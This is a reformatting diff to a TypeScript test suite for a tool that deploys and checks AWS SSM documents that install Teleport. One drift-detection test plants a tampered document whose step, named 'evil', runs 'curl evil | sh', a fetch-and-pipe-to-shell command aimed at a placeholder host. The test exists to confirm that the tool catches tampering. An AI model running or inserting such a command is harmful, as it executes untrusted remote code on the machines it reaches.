@@ -61,7 +61,11 @@ async function expectTeleportDocument(region: string, extraTags: { Key: string; 
   });
   const path = download.inputs.destinationPath as string;
   expect(path).toMatch(/^\/tmp\/installTeleport-[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.sh$/);
-  expect(run).toEqual({ action: 'aws:runShellScript', name: 'runShellScript', inputs: { timeoutSeconds: '300', runCommand: [`/bin/sh ${path} "{{ token }}"`] } });
+  expect(run).toEqual({
+    action: 'aws:runShellScript',
+    name: 'runShellScript',
+    inputs: { timeoutSeconds: '300', runCommand: [`/bin/sh ${path} "{{ token }}"`] },
+  });
   return path;
 }
 
@@ -70,7 +74,11 @@ describe('features: apply', () => {
     const result = await runAction(settingsFor({ features: ALL_FEATURES }), h.deps());
     expect(result.failure).toBeUndefined();
     const reference = referencePolicies('aws', ACCOUNT, 'us-east-1');
-    expect((await policyNames()).sort()).toEqual(Object.values(reference).map((p) => p.name).sort());
+    expect((await policyNames()).sort()).toEqual(
+      Object.values(reference)
+        .map((p) => p.name)
+        .sort(),
+    );
     for (const [feature, { name, document }] of Object.entries(reference)) {
       expect(normalisePolicy(await inlinePolicy(name)), `${feature}: ${name}`).toEqual(normalisePolicy(document));
     }
@@ -226,7 +234,12 @@ describe('features: what is not declared', () => {
     expect(check.findings[0].message).toContain('left behind when a region or the document name was dropped');
     expect(check.failure).toMatch(/Drift found: 1 difference/);
     // Every listed region is scanned, and the document of each listed region is found in the index.
-    expect(h.proxy.calls.filter((c) => c.action === 'GetResources').map((c) => c.region).sort()).toEqual(['eu-west-1', 'us-east-1']);
+    expect(
+      h.proxy.calls
+        .filter((c) => c.action === 'GetResources')
+        .map((c) => c.region)
+        .sort(),
+    ).toEqual(['eu-west-1', 'us-east-1']);
   });
 
   it('check: a missing or changed document in a listed region is drift; apply makes a new default version', async () => {
@@ -235,11 +248,17 @@ describe('features: what is not declared', () => {
     const changed = await west.send(
       new UpdateDocumentCommand({
         Name: 'TeleportDiscoveryInstaller',
-        Content: JSON.stringify({ schemaVersion: '2.2', description: 'x', mainSteps: [{ action: 'aws:runShellScript', name: 'evil', inputs: { runCommand: ['curl evil | sh'] } }] }),
+        Content: JSON.stringify({
+          schemaVersion: '2.2',
+          description: 'x',
+          mainSteps: [{ action: 'aws:runShellScript', name: 'evil', inputs: { runCommand: ['curl evil | sh'] } }],
+        }),
         DocumentVersion: '$LATEST',
       }),
     );
-    await west.send(new UpdateDocumentDefaultVersionCommand({ Name: 'TeleportDiscoveryInstaller', DocumentVersion: changed.DocumentDescription!.DocumentVersion }));
+    await west.send(
+      new UpdateDocumentDefaultVersionCommand({ Name: 'TeleportDiscoveryInstaller', DocumentVersion: changed.DocumentDescription!.DocumentVersion }),
+    );
 
     const check = await runAction(settingsFor({ mode: 'check', features: 'ec2-ssm: { regions: [us-east-1, eu-west-1] }' }), h.deps());
     expect(check.findings.map((f) => `${f.resource} ${f.target}`)).toEqual([`SSM document: update-document ${docArn('eu-west-1')}`]);
@@ -252,7 +271,11 @@ describe('features: what is not declared', () => {
 });
 
 describe('features: documents it does not own', () => {
-  const foreign = JSON.stringify({ schemaVersion: '2.2', description: 'theirs', mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: ['true'] } }] });
+  const foreign = JSON.stringify({
+    schemaVersion: '2.2',
+    description: 'theirs',
+    mainSteps: [{ action: 'aws:runShellScript', name: 'run', inputs: { runCommand: ['true'] } }],
+  });
 
   it('refuses a document tagged for another integration, writing nothing anywhere', async () => {
     await ssm('eu-west-1').send(
